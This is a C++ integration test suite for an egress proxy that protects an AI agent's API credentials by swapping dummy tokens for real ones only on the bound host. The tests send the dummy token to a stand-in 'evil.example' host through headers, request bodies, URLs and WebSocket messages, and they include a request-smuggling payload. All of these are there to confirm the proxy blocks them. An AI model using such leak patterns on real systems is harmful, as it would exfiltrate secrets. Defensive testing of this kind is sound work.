// bottle-egress, the native egress engine, as a real process on the host: curl and
// fake_net.py's client reach it as the agent would, and a fake HTTPS upstream behind
// a parent proxy standing in for pipelock (fake_net.py serve) logs what it receives,
// so "never reached upstream" is checked, not assumed. All on 127.0.0.1 with
// certificates made here. Token values are test strings; assertions test booleans
// so none is printed.
#include <catch2/catch.hpp>

#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "bottle/egress/egress_audit.hpp"
#include "bottle/egress/egress_config.hpp"
#include "net_harness.hpp"

namespace {

using namespace net_harness;

const std::string codex_dummy = "dummy-codex-access-0001";
const std::string codex_real = "real-codex-one";
const std::string bearer = "Authorization: Bearer " + codex_dummy;

struct Reply {
  int status = 0;
  std::string body;
};

// Which roots bottle-egress verifies the fake upstream with.
enum class UpstreamTrust {
  flag,           // its CA as --upstream-ca, and the system roots
  system_only,    // the system roots only, which do not hold its CA
  hashed_dir,     // SSL_CERT_DIR: a directory of subject-hash links holding its CA, no bundle
  hashed_dir_not  // SSL_CERT_DIR: a directory of hash links holding another CA only
};

// The fake network, a bottle CA, and bottle-egress listening in front of them.
class NativeEgress {
 public:
  // `extra`: more bottle-egress arguments.
  explicit NativeEgress(UpstreamTrust trust = UpstreamTrust::flag, const std::vector<std::string>& extra = {}) {
    const fs::path& d = dir_.path();
    write_file(d / "auth.json", R"({"tokens": {"access_token": ")" + codex_real + R"("}})");
    const auto made = run({"openssl",
                           "req",
                           "-x509",
                           "-newkey",
                           "ec",
                           "-pkeyopt",
                           "ec_paramgen_curve:prime256v1",
                           "-nodes",
                           "-keyout",
                           (d / "ca.key").string(),
                           "-out",
                           ca().string(),
                           "-days",
                           "2",
                           "-subj",
                           "/CN=bottle native egress test CA",
                           "-addext",
                           "basicConstraints=critical,CA:TRUE",
                           "-addext",
                           "keyUsage=critical,keyCertSign,cRLSign"});
    INFO(made.err);
    REQUIRE(made.ok());
    write_file(d / "ca.pem", read_file(d / "ca.key") + read_file(ca()));
    write_file(d / "routes.json", bottle::render_egress_routes({{.name = "codex",
                                                                 .hosts = {"chatgpt.com"},
                                                                 .header = "Authorization",
                                                                 .dummy = codex_dummy,
                                                                 .value_file = (d / "auth.json").string(),
                                                                 .value_json_pointer = "/tokens/access_token"}}));
    port_ = free_port();
    std::vector<std::string> argv = {"env", "-u", "BOTTLE_EGRESS_UPSTREAM_CA"};
    if (trust == UpstreamTrust::hashed_dir || trust == UpstreamTrust::hashed_dir_not)
      argv.insert(argv.end(), {"-u", "SSL_CERT_FILE", "SSL_CERT_DIR=" + hashed_roots(trust).string()});
    argv.insert(argv.end(), {test_paths::bottle_egress, "--listen", "127.0.0.1:" + std::to_string(port_), "--ca",
                             (d / "ca.pem").string(), "--routes", (d / "routes.json").string(), "--parent-proxy",
                             "http://127.0.0.1:" + std::to_string(net_.parent_port)});
    if (trust == UpstreamTrust::flag) argv.insert(argv.end(), {"--upstream-ca", net_.path("ca.pem").string()});
    argv.insert(argv.end(), extra.begin(), extra.end());
    egress_.emplace(argv, log());
    require_egress_ready(*egress_, log(), 20s);
  }

  fs::path log() const { return dir_.path() / "egress.log"; }
  fs::path ca() const { return dir_.path() / "ca-cert.pem"; }
  std::uint16_t port() const { return port_; }

  Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> argv = {"curl",      "-sS",      "--max-time",  "20", "--noproxy",      "", "--proxy",
                                     proxy_url(), "--cacert", ca().string(), "-w", "\n%{http_code}", url};
    argv.insert(argv.end(), extra.begin(), extra.end());
    const auto r = run(argv);
    INFO("curl stderr: " << r.err);
    REQUIRE(r.ok());
    const auto nl = r.out.rfind('\n');
    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
  }

  struct Fetched {
    int status = 0;
    std::string raw;
    double first_data_s = -1;
    double end_s = -1;
  };
  // GET through egress with fake_net.py's TLS client: the raw response as the agent
  // read it, and when its first body bytes and its end came.
  Fetched fetch(const std::string& host, const std::string& url_path, const std::string& header,
                const std::string& value) const {
    const auto out = dir_.path() / ("fetched-" + std::to_string(++fetches_));
    const auto r = run({"python3", fake_net_script(), "fetch", std::to_string(port_), ca().string(), host, url_path,
                        header, value, out.string()});
    INFO("fetch stderr: " << r.err);
    REQUIRE(r.ok());
    const auto o = boost::json::parse(r.out).as_object();
    Fetched f{.status = static_cast<int>(o.at("status").as_int64()), .raw = read_file(out)};
    if (o.at("first_data_s").is_double()) f.first_data_s = o.at("first_data_s").as_double();
    f.end_s = o.at("end_s").as_double();
    return f;
  }

  // Header `name` of the request the upstream received for `url_path`; nullopt if it
  // received none.
  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
    std::istringstream lines(read_file(net_.path("upstream.log")));
    for (std::string line; std::getline(lines, line);) {
      const auto rec = boost::json::parse(line).as_object();
      if (rec.at("path").as_string() != url_path) continue;
      const auto& headers = rec.at("headers").as_object();
      return headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
    }
    return std::nullopt;
  }

  // Raw bytes to egress's proxy port; what it answers until it closes (or 10 s pass:
  // `closed` says which).
  std::string raw_exchange(const std::string& bytes, bool* closed = nullptr) const {
    const int fd = open_connection();
    REQUIRE(::send(fd, bytes.data(), bytes.size(), 0) == static_cast<ssize_t>(bytes.size()));
    timeval timeout{.tv_sec = 10, .tv_usec = 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
    std::string out;
    char buf[4096];
    ssize_t n = 0;
    while ((n = ::recv(fd, buf, sizeof buf, 0)) > 0) out.append(buf, static_cast<std::size_t>(n));
    if (closed != nullptr) *closed = n == 0;
    ::close(fd);
    return out;
  }

  // A TCP connection to egress's proxy port (the caller closes it).
  int open_connection() const {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    const auto addr = loopback(port_);
    REQUIRE(::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) == 0);
    return fd;
  }

 private:
  std::string proxy_url() const { return "http://127.0.0.1:" + std::to_string(port_); }

  // A roots directory as update-ca-certificates leaves it: certificate files and the
  // subject-hash links `openssl rehash` makes to them.
  fs::path hashed_roots(UpstreamTrust trust) const {
    const fs::path roots = dir_.path() / "roots";
    fs::create_directories(roots);
    write_file(roots / "upstream-ca.pem", read_file(trust == UpstreamTrust::hashed_dir ? net_.path("ca.pem") : ca()));
    const auto rehashed = run({"openssl", "rehash", roots.string()});
    INFO(rehashed.err);
    REQUIRE(rehashed.ok());
    return roots;
  }

  FakeNet net_;
  TempDir dir_;
  std::optional<Daemon> egress_;
  std::uint16_t port_ = 0;
  mutable int fetches_ = 0;
};

}  // namespace

TEST_CASE("bottle-egress: the dummy becomes the real value on the bound host, never elsewhere", "[native-egress]") {
  NativeEgress egress;

  const auto swapped = egress.curl("https://chatgpt.com/models", {"-H", bearer});
  CHECK(swapped.status == 200);
  CHECK(egress.upstream_header("/models", "Authorization") == "Bearer " + codex_real);
  // The upstream echoes what it received; the agent gets its dummy back, not the value.
  CHECK_FALSE(contains(swapped.body, codex_real));

  // Kept alive: two requests on one connection, both swapped.
  const auto both = egress.curl("https://chatgpt.com/one", {"-H", bearer, "https://chatgpt.com/two"});
  CHECK(egress.upstream_header("/one", "Authorization") == "Bearer " + codex_real);
  CHECK(egress.upstream_header("/two", "Authorization") == "Bearer " + codex_real);

  // A dummy to a host it is not bound to: 403, never forwarded (header, body, URL).
  const auto leak = egress.curl("https://evil.example/leak-header", {"-H", bearer});
  CHECK(leak.status == 403);
  CHECK(leak.body == "blocked by bottle egress: credential for codex sent to evil.example\n");
  CHECK(egress.curl("https://evil.example/leak-body", {"--data", "token=" + codex_dummy}).status == 403);
  CHECK(egress.curl("https://evil.example/leak-url?t=" + codex_dummy).status == 403);
  // Plain HTTP never carries a dummy, even to the bound host.
  CHECK(egress.curl("http://chatgpt.com/plain-leak", {"-H", bearer}).status == 403);
  for (const char* path : {"/leak-header", "/leak-body", "/leak-url", "/plain-leak"}) {
    INFO(path);
    CHECK_FALSE(egress.upstream_header(path, "Authorization"));
  }
  // No dummy: passed through untouched.
  CHECK(egress.curl("https://evil.example/clean", {"-H", "Authorization: Bearer other"}).status == 200);
  CHECK(egress.upstream_header("/clean", "Authorization") == "Bearer other");

  const std::string log = read_file(egress.log());
  CHECK(contains(log, R"("event":"blocked")"));
  CHECK_FALSE(contains(log, codex_dummy));
  CHECK_FALSE(contains(log, codex_real));
}

TEST_CASE("bottle-egress: a reflected real value comes back as the dummy, and SSE streams live", "[native-egress]") {
  NativeEgress egress;
  const std::string value = "Bearer " + codex_dummy;

  const auto header = egress.fetch("chatgpt.com", "/reflect/header", "Authorization", value);
  CHECK(header.status == 200);
  CHECK(contains(header.raw, "X-Echo-Authorization: " + value + "\r\n"));
  const auto plain = egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", value);
  CHECK(contains(plain.raw, "you sent: " + value + "\n"));
  CHECK(contains(plain.raw, "Transfer-Encoding: chunked\r\n"));  // the length may change: re-framed
  const auto json = egress.fetch("chatgpt.com", "/reflect/json", "Authorization", value);
  CHECK(contains(json.raw, R"({"authorization": ")" + value + R"("})"));
  const auto split = egress.fetch("chatgpt.com", "/reflect/split", "Authorization", value);
  CHECK(contains(split.raw, codex_dummy + "\n"));
  // An answer that ends with the upstream's connection, cut without close_notify:
  // all of it arrives, reverse-swapped, and then the agent's connection ends too.
  const auto until_close = egress.fetch("chatgpt.com", "/reflect/close", "Authorization", value);
  CHECK(until_close.status == 200);
  CHECK(contains(until_close.raw, "you sent: " + value + "\nend\n"));
  for (const auto* f : {&header, &plain, &json, &split, &until_close}) CHECK_FALSE(contains(f->raw, codex_real));

  const auto sse = egress.fetch("chatgpt.com", "/reflect/sse", "Authorization", value);
  CHECK(sse.status == 200);
  CHECK(contains(sse.raw, "data: first\n\n"));
  CHECK(contains(sse.raw, "data: " + value + "\n\n"));
  CHECK_FALSE(contains(sse.raw, codex_real));
  // The upstream waits 1.5 s between its events: the first one got through before then.
  CHECK(sse.first_data_s >= 0);
  CHECK(sse.end_s - sse.first_data_s > 1.0);

  // An encoding the reverse swap cannot scan as it streams: 502, not the body.
  const auto br = egress.fetch("chatgpt.com", "/reflect/br", "Authorization", value);
  CHECK(br.status == 502);
  CHECK_FALSE(contains(br.raw, codex_real));
}

TEST_CASE("bottle-egress: smuggling and oversized requests are refused before anything is forwarded",
          "[native-egress]") {
  NativeEgress egress;
  const auto conflicting = egress.raw_exchange(
      "POST http://chatgpt.com/smuggle HTTP/1.1\r\nHost: chatgpt.com\r\nContent-Length: 5\r\n"
      "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /second HTTP/1.1\r\nHost: chatgpt.com\r\n\r\n");
  CHECK(conflicting.starts_with("HTTP/1.1 400 "));
  CHECK(contains(conflicting, "Connection: close\r\n"));
  const auto folded =
      egress.raw_exchange("GET http://chatgpt.com/fold HTTP/1.1\r\nHost: chatgpt.com\r\nX-A: one\r\n two\r\n\r\n");
  CHECK(folded.starts_with("HTTP/1.1 400 "));
  const auto long_line = egress.raw_exchange("GET http://chatgpt.com/" + std::string(9000, 'a') + " HTTP/1.1\r\n\r\n");
  CHECK(long_line.starts_with("HTTP/1.1 414 "));
  // Five 8 KiB fields: each line is within its limit, the head (32 KiB at most) is not.
  std::string fields;
  for (const char name : std::string("vwxyz")) fields += std::string(40, name) + ": " + std::string(8000, 'y') + "\r\n";
  const auto big_head =
      egress.raw_exchange("GET http://chatgpt.com/big HTTP/1.1\r\nHost: chatgpt.com\r\n" + fields + "\r\n");
  CHECK(big_head.starts_with("HTTP/1.1 431 "));
  for (const char* path : {"/smuggle", "/second", "/fold", "/big"}) {
    INFO(path);
    CHECK_FALSE(egress.upstream_header(path, "Host"));
  }
}

TEST_CASE("bottle-egress: an upstream certificate no trusted CA signed gets 502", "[native-egress]") {
  NativeEgress egress(UpstreamTrust::system_only);
  const auto refused = egress.curl("https://chatgpt.com/untrusted", {"-H", bearer});
  CHECK(refused.status == 502);
  CHECK(contains(refused.body, "certificate verify failed"));
  CHECK_FALSE(egress.upstream_header("/untrusted", "Authorization"));
}

TEST_CASE("bottle-egress: a root in a hashed SSL_CERT_DIR verifies upstreams, a directory without it does not",
          "[native-egress]") {
  // Egress looks roots up in such a directory when a chain needs one instead of
  // parsing the whole bundle at start (system_roots.hpp); the directory alone must
  // decide, with no bundle behind it.
  {
    NativeEgress egress(UpstreamTrust::hashed_dir);
    const auto trusted = egress.curl("https://chatgpt.com/hashed", {"-H", bearer});
    CHECK(trusted.status == 200);
    CHECK(egress.upstream_header("/hashed", "Authorization") == "Bearer " + codex_real);
  }
  NativeEgress egress(UpstreamTrust::hashed_dir_not);
  const auto refused = egress.curl("https://chatgpt.com/hashed-other", {"-H", bearer});
  CHECK(refused.status == 502);
  CHECK(contains(refused.body, "certificate verify failed"));
  CHECK_FALSE(egress.upstream_header("/hashed-other", "Authorization"));
}

TEST_CASE("bottle-egress: a head sent too slowly is cut off, and connections past the cap get 503", "[native-egress]") {
  NativeEgress egress(UpstreamTrust::flag, {"--head-timeout", "1", "--max-connections", "1"});
  // A head that never ends (slowloris): egress closes it after --head-timeout, long
  // before the 10 s this client waits, and answers nothing.
  bool closed = false;
  const auto slow = egress.raw_exchange("GET http://chatgpt.com/slow HTTP/1.1\r\nHost: chat", &closed);
  CHECK(closed);
  CHECK(slow.empty());
  CHECK_FALSE(egress.upstream_header("/slow", "Host"));

  // One connection held open (accepted first: egress accepts in order): the next one
  // is over the cap.
  const int held = egress.open_connection();
  const auto over = egress.raw_exchange("GET http://chatgpt.com/over HTTP/1.1\r\nHost: chatgpt.com\r\n\r\n");
  CHECK(over.starts_with("HTTP/1.1 503 "));
  ::close(held);
  CHECK_FALSE(egress.upstream_header("/over", "Host"));
}

TEST_CASE("bottle-egress: a TLS server name other than the CONNECT host ends the tunnel", "[native-egress]") {
  NativeEgress egress;
  // CONNECT to evil.example, then TLS naming chatgpt.com (the name check is off so the
  // handshake itself completes): egress serves nothing on that tunnel.
  const std::string client = R"(
import socket, ssl, sys
port, ca, sni = int(sys.argv[1]), sys.argv[2], sys.argv[3]
sock = socket.create_connection(("127.0.0.1", port), timeout=10)
sock.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
reply = b""
while b"\r\n\r\n" not in reply: reply += sock.recv(1)
ctx = ssl.create_default_context(cafile=ca)
ctx.check_hostname = False
tls = ctx.wrap_socket(sock, server_hostname=sni)
try:
    tls.sendall(b"GET /sni-mismatch HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    print("answered" if tls.recv(100) else "closed")
except (OSError, ssl.SSLError):
    print("closed")
)";
  const auto mismatch =
      run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "chatgpt.com"});
  INFO(mismatch.err);
  CHECK(mismatch.out == "closed\n");
  CHECK_FALSE(egress.upstream_header("/sni-mismatch", "Host"));
  // The same client naming the CONNECT host is served.
  const auto match =
      run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "evil.example"});
  CHECK(match.out == "answered\n");
  CHECK(egress.upstream_header("/sni-mismatch", "Host") == "evil.example");
}

TEST_CASE("bottle-egress --confdir: one audit record per request, no dummy or real value in it", "[native-egress]") {
  TempDir conf;
  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
  NativeEgress egress(UpstreamTrust::flag, {"--confdir", conf.path().string()});

  // The real value in the path and the dummy in a blocked path: both redacted.
  CHECK(egress.curl("https://chatgpt.com/models/" + codex_real + "?key=secret", {"-H", bearer}).status == 200);
  CHECK(egress.curl("https://evil.example/leak/" + codex_dummy, {"-H", bearer}).status == 403);
  CHECK(egress.curl("https://evil.example/clean").status == 200);

  const fs::path log = conf.path() / "audit.jsonl";
  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 3; }, 10s));
  const std::string text = read_file(log);
  CHECK_FALSE(contains(text, codex_dummy));
  CHECK_FALSE(contains(text, codex_real));
  CHECK_FALSE(contains(text, "secret"));
  CHECK(fs::status(log).permissions() == (fs::perms::owner_read | fs::perms::owner_write));
  const auto records = bottle::parse_audit_lines(text, "audit").records;
  REQUIRE(records.size() == 3);

  const bottle::AuditRecord& swapped = records[0];
  CHECK(swapped.bottle == "demo");
  CHECK(swapped.action == "injected");
  CHECK(swapped.reason == "credential swapped");
  CHECK(swapped.route == "codex");
  CHECK(swapped.method == "GET");
  CHECK(swapped.host == "chatgpt.com");
  CHECK(swapped.port == 443);
  CHECK(swapped.path == "/models/[redacted]");
  CHECK(swapped.status == 200);
  CHECK(swapped.bytes_up == 0);
  CHECK(swapped.bytes_down > 0);

  const bottle::AuditRecord& blocked = records[1];
  CHECK(blocked.action == "blocked");
  CHECK(blocked.reason == "dummy sent to unbound host");
  CHECK(blocked.route == "codex");
  CHECK(blocked.host == "evil.example");
  CHECK(blocked.path == "/leak/[redacted]");
  CHECK(blocked.status == 403);

  const bottle::AuditRecord& clean = records[2];
  CHECK(clean.action == "tunneled");
  CHECK(clean.reason == "forwarded unchanged");
  CHECK(clean.route.empty());
  CHECK(clean.status == 200);
}

TEST_CASE("bottle-egress --confdir: a refused upstream and a refused CONNECT are recorded", "[native-egress]") {
  TempDir conf;
  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
  NativeEgress egress(UpstreamTrust::system_only, {"--confdir", conf.path().string()});
  CHECK(egress.curl("https://chatgpt.com/untrusted", {"-H", bearer}).status == 502);
  const auto connect =
      egress.raw_exchange("CONNECT chatgpt.com:443 HTTP/1.1\r\nHost: chatgpt.com:443\r\n" + bearer + "\r\n\r\n");
  CHECK(connect.starts_with("HTTP/1.1 403 "));

  const fs::path log = conf.path() / "audit.jsonl";
  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 2; }, 10s));
  const auto records = bottle::parse_audit_lines(read_file(log), "audit").records;
  REQUIRE(records.size() == 2);
  CHECK(records[0].action == "refused");
  CHECK(records[0].status == 0);
  CHECK(contains(records[0].reason, "certificate verify failed"));
  CHECK(records[0].route == "codex");
  CHECK(records[1].action == "blocked");
  CHECK(records[1].reason == "dummy in CONNECT");
  CHECK(records[1].method == "CONNECT");
  CHECK(records[1].path.empty());
  CHECK(records[1].status == 403);
  CHECK_FALSE(contains(read_file(log), codex_dummy));
  CHECK_FALSE(contains(read_file(log), codex_real));
}

TEST_CASE("bottle-egress --confdir: a bad audit.json stops egress before it listens", "[native-egress]") {
  TempDir conf;
  write_file(conf.path() / "audit.json", R"({"version": 2, "bottle": "demo", "log": "audit.jsonl", "max_bytes": 10})");
  TempDir files;
  write_file(files.path() / "routes.json", R"({"version": 1, "routes": []})");
  write_file(files.path() / "ca.pem", "");
  const auto r = run({test_paths::bottle_egress, "--listen", "127.0.0.1:1", "--ca", (files.path() / "ca.pem").string(),
                      "--routes", (files.path() / "routes.json").string(), "--confdir", conf.path().string()});
  CHECK_FALSE(r.ok());
  CHECK(contains(r.err, "--confdir " + conf.path().string()));
  CHECK(contains(r.err, "must be 1"));
  CHECK_FALSE(contains(r.out, "ready"));
}

namespace {

// A WebSocket client through egress: CONNECT, TLS, the upgrade (asking for
// permessage-deflate, which egress must strip), the first frame, then each message
// sent and its echo read. Prints {"status", "extensions", "frames", "closed"}.
const std::string ws_client = R"(
import json, os, socket, ssl, sys
port, ca, host, path, auth = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
sock = socket.create_connection(("127.0.0.1", port), timeout=10)
sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
reply = b""
while b"\r\n\r\n" not in reply: reply += sock.recv(1)
tls = ssl.create_default_context(cafile=ca).wrap_socket(sock, server_hostname=host)
extra = f"Authorization: {auth}\r\n" if auth else ""
tls.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
             f"Sec-WebSocket-Extensions: permessage-deflate\r\n{extra}\r\n").encode())
head = b""
while b"\r\n\r\n" not in head: head += tls.recv(1)
out = {"status": head.split(b"\r\n")[0].decode(), "extensions": b"sec-websocket-extensions" in head.lower(),
       "frames": [], "closed": False}
def exactly(n):
    data = b""
    while len(data) < n:
        more = tls.recv(n - len(data))
        if not more: raise EOFError
        data += more
    return data
def frame():
    h = exactly(2)
    n = h[1] & 0x7F
    if n == 126: n = int.from_bytes(exactly(2), "big")
    return exactly(n).decode()
try:
    out["frames"].append(frame())
    for m in sys.argv[6:]:
        data, mask = m.encode(), os.urandom(4)
        tls.sendall(bytes([0x81, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
        out["frames"].append(frame())
except (EOFError, OSError):
    out["closed"] = True
print(json.dumps(out))
)";

struct WsResult {
  std::string status;
  bool extensions = false;
  std::vector<std::string> frames;
  bool closed = false;
};

WsResult ws(const NativeEgress& egress, const std::string& host, const std::string& path, const std::string& auth,
            const std::vector<std::string>& messages) {
  std::vector<std::string> argv = {"python3", "-c", ws_client, std::to_string(egress.port()), egress.ca().string(),
                                   host,      path, auth};
  argv.insert(argv.end(), messages.begin(), messages.end());
  const auto r = run(argv);
  INFO("ws client stderr: " << r.err);
  REQUIRE(r.ok());
  const auto o = boost::json::parse(r.out).as_object();
  WsResult result{.status = std::string(o.at("status").as_string()),
                  .extensions = o.at("extensions").as_bool(),
                  .closed = o.at("closed").as_bool()};
  for (const auto& f : o.at("frames").as_array()) result.frames.emplace_back(f.as_string());
  return result;
}

}  // namespace

TEST_CASE("bottle-egress WebSocket: the upgrade is swapped, frames relay both ways, answers are reverse-swapped",
          "[native-egress]") {
  NativeEgress egress;
  const auto echo = ws(egress, "chatgpt.com", "/ws-echo", "Bearer " + codex_dummy, {"one", "two"});
  CHECK(echo.status == "HTTP/1.1 101 Switching Protocols");
  CHECK(echo.frames == std::vector<std::string>{"hello", "one", "two"});
  CHECK_FALSE(echo.closed);
  CHECK_FALSE(echo.extensions);
  CHECK(egress.upstream_header("/ws-echo", "Authorization") == "Bearer " + codex_real);
  CHECK(egress.upstream_header("/ws-echo", "Sec-WebSocket-Extensions") == "<none>");

  // The upstream's first message quotes the real value: the agent reads its dummy.
  const auto reflected = ws(egress, "chatgpt.com", "/reflect/ws", "Bearer " + codex_dummy, {});
  REQUIRE(reflected.frames.size() == 1);
  CHECK(reflected.frames[0] == "you sent: Bearer " + codex_dummy);

  // A dummy in a message to the host it is bound to is harmless (the addon's rule).
  const auto bound = ws(egress, "chatgpt.com", "/ws-echo", "", {"x " + codex_dummy});
  CHECK(bound.frames == std::vector<std::string>{"hello", "x " + codex_dummy});
}

TEST_CASE("bottle-egress WebSocket: a dummy in a client message to another host closes the connection",
          "[native-egress]") {
  TempDir conf;
  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
  NativeEgress egress(UpstreamTrust::flag, {"--confdir", conf.path().string()});
  const auto leak = ws(egress, "evil.example", "/ws-echo", "", {"fine", "token " + codex_dummy, "after"});
  CHECK(leak.status == "HTTP/1.1 101 Switching Protocols");
  CHECK(leak.frames == std::vector<std::string>{"hello", "fine"});  // no echo: the message never went upstream
  CHECK(leak.closed);

  const fs::path log = conf.path() / "audit.jsonl";
  REQUIRE(wait_until([&] { return !bottle::parse_audit_lines(read_file(log), "audit").records.empty(); }, 10s));
  const auto records = bottle::parse_audit_lines(read_file(log), "audit").records;
  REQUIRE(records.size() == 1);
  CHECK(records[0].action == "blocked");
  CHECK(records[0].reason == "dummy in a websocket message to unbound host");
  CHECK(records[0].route == "codex");
  CHECK(records[0].host == "evil.example");
  CHECK(records[0].status == 101);
  CHECK_FALSE(contains(read_file(log), codex_dummy));
  CHECK(contains(read_file(egress.log()), "dummy in a websocket message to unbound host"));
  CHECK_FALSE(contains(read_file(egress.log()), codex_dummy));
}
